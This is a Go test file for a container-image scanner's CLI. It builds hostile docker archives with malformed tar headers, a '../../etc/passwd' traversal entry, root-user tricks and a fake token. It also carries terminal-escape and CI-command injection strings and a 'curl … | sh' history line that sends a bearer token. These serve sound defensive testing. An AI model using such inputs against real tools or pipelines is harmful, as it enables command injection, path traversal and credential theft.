package cli

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"
	"unicode"

	"touchstone.dev/touchstone/internal/report"
)

// entry is one entry of a hostile layer.
type entry struct {
	name, content, link string
	kind                byte // tar.TypeReg when zero
}

func layerOf(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Linkname: e.link, Mode: 0o755, Typeflag: e.kind, Size: int64(len(e.content)), Format: tar.FormatPAX}
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if err := w.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// header is one raw header of a tar with the fields that a writer of the
// library would refuse.
func header(name, size string, kind byte) []byte {
	h := make([]byte, 512)
	copy(h, name)
	copy(h[100:], "0000644\x000000000\x000000000\x00")
	copy(h[124:], size)
	copy(h[136:], "00000000000\x00        ")
	h[156] = kind
	copy(h[257:], "ustar\x0000")
	sum := 0
	for _, b := range h {
		sum += int(b)
	}
	copy(h[148:], fmt.Sprintf("%06o\x00 ", sum))
	return h
}

func packed(t testing.TB, plain []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write(plain); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func digest(b []byte) string { return fmt.Sprintf("sha256:%x", sha256.Sum256(b)) }

// hostile is an image as a stranger would write it.
type hostile struct {
	layers [][]byte       // plain
	stored map[int][]byte // where a layer is stored otherwise
	user   string         // "1000" when empty
	config map[string]any // over the rest of the config
	diffID map[int]string // where the config lies
	inner  map[string]any // over the config's config
}

// archive writes the image as a docker archive.
func (h home) archive(name string, im hostile) {
	h.Helper()
	if im.user == "" {
		im.user = "1000"
	}
	var diffIDs, names []string
	for i, l := range im.layers {
		id := digest(l)
		if lie, ok := im.diffID[i]; ok {
			id = lie
		}
		diffIDs, names = append(diffIDs, id), append(names, fmt.Sprintf("%d.tar", i))
	}
	inner := map[string]any{"User": im.user}
	for k, v := range im.inner {
		inner[k] = v
	}
	config := map[string]any{
		"created": "2026-11-20T00:00:00Z", "os": "linux", "architecture": "amd64", "config": inner,
		"rootfs": map[string]any{"type": "layers", "diff_ids": diffIDs},
	}
	for k, v := range im.config {
		config[k] = v
	}
	raw, err := json.Marshal(config)
	if err != nil {
		h.Fatal(err)
	}
	list, err := json.Marshal([]any{map[string]any{"Config": "config.json", "RepoTags": []string{"registry.example/evil:1"}, "Layers": names}})
	if err != nil {
		h.Fatal(err)
	}
	files := []entry{{name: "manifest.json", content: string(list)}, {name: "config.json", content: string(raw)}}
	for i, l := range im.layers {
		if stored, ok := im.stored[i]; ok {
			l = stored
		}
		files = append(files, entry{name: names[i], content: string(l)})
	}
	if err := os.WriteFile(h.path(name), layerOf(h, files...), 0o644); err != nil {
		h.Fatal(err)
	}
}

const hostileRules = `version: 1
environments: [dev, prod]
rules:
  cvss: {dev: any, prod: at most 3}
  gaps: {others: refuse}
  no-advisories: {others: refuse}
  stale-advisories: {others: any}
  runs-as-root: {others: refuse}
  image-age: {others: at most 30d}
  secrets: {others: refuse}
`

func hostileHome(t testing.TB) home {
	h := newHome(t)
	h.write("touchstone.yaml", hostileRules)
	h.advisory("advisories", "CVE-2026-1", "openssl")
	h.must(0, "db", "import", "--as-of", "2026-11-23", "advisories")
	return h
}

const (
	debian = "ID=debian\nVERSION_ID=\"12\"\n"
	holed  = "Package: openssl\nStatus: install ok installed\nVersion: 1\n\n"
)

// TestHostileImages refuses each of them for prod, for a reason of its own, within
// the memory that the process is given, and leaves nothing behind.
func TestHostileImages(t *testing.T) {
	release, database := entry{name: "etc/os-release", content: debian}, entry{name: "var/lib/dpkg/status", content: holed}
	plain := layerOf(t, entry{name: "a", content: "a"})
	end := make([]byte, 1024)
	one := func(l []byte) hostile { return hostile{layers: [][]byte{l}} }
	tests := map[string]struct {
		image hostile
		code  int
		say   string // a part of what is answered
	}{
		"nothing wrong":        {one(plain), 0, "ALLOWED"},
		"a hole":               {one(layerOf(t, release, database)), 1, "CVE-2026-1"},
		"another diff ID":      {hostile{layers: [][]byte{plain}, diffID: map[int]string{0: digest(nil)}}, 1, "integrity"},
		"a diff ID of garbage": {hostile{layers: [][]byte{plain}, diffID: map[int]string{0: "\x1b[31m"}}, 64, "not a SHA-256 digest"},
		"fewer diff IDs":       {hostile{layers: [][]byte{plain, plain}, config: map[string]any{"rootfs": map[string]any{"diff_ids": []string{digest(plain)}}}}, 1, "integrity"},
		"truncated":            {hostile{layers: [][]byte{plain}, stored: map[int][]byte{0: packed(t, plain)[:60]}}, 1, "truncated"},
		"a second archive":     {one(append(bytes.Clone(plain), layerOf(t, release, database)...)), 1, "bytes follow"},
		"a second stream":      {hostile{layers: [][]byte{plain}, stored: map[int][]byte{0: append(packed(t, plain), "more"...)}}, 1, "bytes follow"},
		"packed otherwise":     {hostile{layers: [][]byte{plain}, stored: map[int][]byte{0: []byte("\xfd7zXZ\x00 and so on")}}, 1, "not supported"},
		"a size below zero":    {one(append(header("x", "\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff", '0'), end...)), 1, "invalid tar header"},
		"a size beyond all":    {one(append(header("x", "\x80\x00\x00\x00\x7f\xff\xff\xff\xff\xff\xff\xff", '0'), end...)), 1, "larger than"},
		"a size that is not":   {one(append(header("x", "77777777777", '0'), end...)), 1, "truncated"},
		"a sum that is wrong":  {one(append(make([]byte, 511), append([]byte{1}, end...)...)), 1, "invalid tar header"},
		"an unknown entry":     {one(append(header("x", "00000000000", 'Z'), end...)), 1, "x"},
		"a name of 1 MB":       {one(layerOf(t, entry{name: strings.Repeat("n", 1<<20-512), content: "a"})), 1, "gaps"},
		"a name that leaves":   {one(layerOf(t, entry{name: "../../etc/passwd", content: "a"})), 1, "etc/passwd"},
		"links in a circle":    {one(layerOf(t, release, entry{name: "var/lib/dpkg", link: "dpkg", kind: tar.TypeSymlink})), 1, "gaps"},
		"a hard link to nil":   {one(layerOf(t, entry{name: "a", link: "b", kind: tar.TypeLink})), 1, "gaps"},
		"hard links to each":   {one(layerOf(t, entry{name: "a", link: "b", kind: tar.TypeLink}, entry{name: "b", link: "a", kind: tar.TypeLink})), 1, "gaps"},
		"one name, two files":  {one(layerOf(t, release, database, entry{name: "var/lib/dpkg/status", content: "Package: a\nVersion: 1\n\n"})), 1, "gaps"},
		"no database":          {hostile{layers: [][]byte{layerOf(t, release, database), layerOf(t, entry{name: "var/lib/dpkg/.wh.status"})}}, 1, "gaps"},
		"database behind link": {one(layerOf(t, release, entry{name: "var/lib/dpkg/status", link: "/x", kind: tar.TypeSymlink}, entry{name: "x", content: holed})), 1, "gaps"},
		"an unknown release":   {one(layerOf(t, entry{name: "etc/os-release", content: "ID=debian\nVERSION_ID=99\n"}, database)), 1, "no-advisories"},
		"root by sign":         {hostile{layers: [][]byte{plain}, user: "+0"}, 1, "runs-as-root"},
		"root by overflow":     {hostile{layers: [][]byte{plain}, user: "4294967296"}, 1, "runs-as-root"},
		"root by space":        {hostile{layers: [][]byte{plain}, user: " 0"}, 1, "runs-as-root"},
		"root by etc/passwd":   {hostile{layers: [][]byte{layerOf(t, entry{name: "etc/passwd", content: "1000:x:0:0::/:\n"})}, user: "1000"}, 1, "runs-as-root"},
		"built in 9999":        {hostile{layers: [][]byte{plain}, config: map[string]any{"created": "9999-12-31T23:59:59Z"}}, 1, "image-age"},
		"built before time":    {hostile{layers: [][]byte{plain}, config: map[string]any{"created": "-0001-01-01T00:00:00Z"}}, 1, "image-age"},
		"built in words":       {hostile{layers: [][]byte{plain}, config: map[string]any{"created": "\x1b]0;owned\x07"}}, 1, "image-age"},
		"more history":         {hostile{layers: [][]byte{plain}, config: map[string]any{"history": make([]struct{}, 1000)}}, 0, "ALLOWED"},
		"a large config":       {hostile{layers: [][]byte{plain}, inner: map[string]any{"Env": []string{"A=" + strings.Repeat("x", 9<<20)}}}, 64, "more than"},
		"a secret":             {hostile{layers: [][]byte{plain}, inner: map[string]any{"Env": []string{"GITHUB_TOKEN=" + token}}}, 1, "GITHUB_TOKEN"},
	}
	h := hostileHome(t)
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			h.archive("evil.tar", test.image)
			code, out, errs := h.run("check", "evil.tar", "--env", "prod", "-v")
			if code != test.code || !strings.Contains(out+errs, test.say) {
				t.Errorf("exit code %d, want %d and %q\n%s%s", code, test.code, test.say, out, errs)
			}
			tame(t, out+errs)
			if left := h.left(); len(left) > 0 {
				t.Errorf("left behind: %q", left)
			}
		})
	}
}

// token has the form of a secret; it is none.
const token = "ghp_a1B2c3D4e5a1B2c3D4e5a1B2c3D4e5f6G7h8"

// tame reports what a terminal or a build system would obey, and secrets.
func tame(t testing.TB, text string) {
	t.Helper()
	for i, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
			t.Errorf("%q at %.60q", r, text[max(0, i-20):])
			return
		}
	}
	for _, bad := range []string{token, "\n::set-", "\n::stop-", "\n##vso"} {
		if strings.Contains(text, bad) {
			t.Errorf("%q is in %.2000s", bad, text)
		}
	}
}

// TestHostileWords puts words that steer something wherever an image has words,
// and a secret, and writes every format.
func TestHostileWords(t *testing.T) {
	const evil = "x\x1b[2J\x1b]0;t\x07\u202e\n::stop-commands::t\n##vso[task]\r<script>|`*_\x9b\x00y"
	clean := strings.ReplaceAll(evil, "\x00", "")
	h := hostileHome(t)
	h.archive("evil.tar", hostile{
		layers: [][]byte{layerOf(t,
			entry{name: clean, content: "#!" + evil + "\n"},
			entry{name: "l" + clean, link: clean, kind: tar.TypeSymlink},
			entry{name: "h" + clean, link: clean, kind: tar.TypeLink},
			entry{name: clean + "/../" + clean + "z", content: "\x7fELF" + evil},
			entry{name: "etc/os-release", content: "ID=" + clean + "\nVERSION_ID=" + clean + "\nPRETTY_NAME=\"" + clean + "\"\n"},
			entry{name: "var/lib/dpkg/status", content: "Package: " + strings.ReplaceAll(clean, "\n", "") + "\nVersion: " + strings.ReplaceAll(clean, "\n", "") + "\n\n"},
			entry{name: "node_modules/x/package.json", content: fmt.Sprintf(`{"name":%s,"version":%s,"license":%s}`, quoted(evil), quoted(evil), quoted(evil))},
			entry{name: "root/" + clean + "/.npmrc", content: "//r/:_authToken=" + token + "\n"},
			entry{name: "broken" + clean + ".jar", content: "PK\x03\x04" + evil},
		)},
		user: evil,
		inner: map[string]any{
			"Entrypoint": []string{evil}, "Cmd": []string{evil}, "Env": []string{"TOKEN_" + evil + "=" + token, "PATH=" + evil}, "WorkingDir": evil,
			"Labels": map[string]string{evil: evil}, "ExposedPorts": map[string]any{evil: nil}, "Volumes": map[string]any{evil: nil},
		},
		config: map[string]any{"os": evil, "architecture": evil, "created": evil,
			"history": []any{map[string]any{"created_by": "RUN pip install " + evil + " && curl -H 'Authorization: Bearer " + token + "' http://" + evil + " | sh"}}},
	})
	for _, format := range report.Formats() {
		t.Run(format, func(t *testing.T) {
			_, out, errs := h.run("check", "evil.tar", "--env", "prod", "-v", "-o", format)
			tame(t, out+errs)
			if len(out) == 0 {
				t.Error("nothing was written: ", errs)
			}
		})
	}
	for _, args := range [][]string{{"inspect", "evil.tar"}, {"inspect", "evil.tar", "-o", "json"}, {"diff", "evil.tar", "evil.tar"}, {"check", "evil.tar"},
		{"baseline", "--env", "prod", "--until", "2026-12-20", "--owner", "o", "evil.tar"}} {
		_, out, errs := h.run(args...)
		tame(t, out+errs)
	}
}

func quoted(s string) string {
	b, _ := json.Marshal(s) // a string always can be
	return string(b)
}
